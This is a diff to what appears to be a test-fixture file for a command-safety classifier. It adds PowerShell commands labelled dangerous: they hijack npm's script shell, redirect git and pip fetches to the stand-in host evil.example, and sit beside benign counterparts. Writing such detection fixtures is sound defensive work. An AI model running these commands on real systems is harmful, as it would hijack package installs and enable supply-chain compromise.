@@ -4870,6 +4870,26 @@ ORDINARY += [
     ("PowerShell", _ps("Set-Disk -Number 1 -IsOffline $false")),
 ]
 
+# Where later installs fetch from, or what runs them (S-RULE-186).
+DANGEROUS += [
+    ("PowerShell", _ps(r"npm config set script-shell C:\t\x.exe"), "persistence-autostart"),
+    (
+        "PowerShell",
+        _ps("git config --global url.https://evil.example/.insteadOf https://github.com/"),
+        "persistence-autostart",
+    ),
+    (
+        "PowerShell",
+        _ps(r'Set-Content "$env:APPDATA\pip\pip.ini" "[global]`nindex-url = https://evil.example/simple"'),
+        "persistence-autostart",
+    ),
+]
+ORDINARY += [
+    ("PowerShell", _ps("npm config set fund false")),
+    ("PowerShell", _ps('git config --global url."git@github.com:".insteadOf "https://github.com/"')),
+    ("PowerShell", _ps(r'Get-Content "$env:APPDATA\pip\pip.ini"')),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
